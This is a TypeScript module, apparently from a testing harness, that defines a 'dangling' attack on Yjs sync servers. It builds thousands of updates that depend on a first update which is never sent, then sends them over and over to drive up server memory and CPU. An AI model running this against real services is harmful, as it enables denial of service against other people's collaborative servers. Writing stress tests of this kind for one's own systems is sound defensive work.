import * as Y from 'yjs';
import type { Attack } from '../attack.ts';
import { insistOnSeat, SYNC, WORD } from '../openSeat.ts';

const UPDATES = 4000;

/** Updates that each build on one that never comes: Yjs keeps them, at a cost that grows with the square of their number. */
export const danglingUpdates: Attack = {
  name: 'dangling',
  means: `${UPDATES} updates that build on one which is never sent`,
  async run({ seats: [seat], isOver, count }) {
    if (!seat) return;
    while (!isOver()) {
      const open = await insistOnSeat(seat, isOver);
      for (const update of makeDangling()) {
        if (!open?.socket.isOpen() || isOver()) break;
        open.say(WORD.sync, SYNC.update, update);
        count(1);
      }
      await open?.socket.drained();
      open?.socket.close();
    }
  },
};

function makeDangling(): readonly Uint8Array[] {
  const doc = new Y.Doc();
  const updates: Uint8Array[] = [];
  doc.on('update', (update: Uint8Array) => updates.push(update));
  for (let edit = 0; edit <= UPDATES; edit += 1) doc.getMap('meta').set('title', `${edit}`.padEnd(400));
  return updates.slice(1);
}
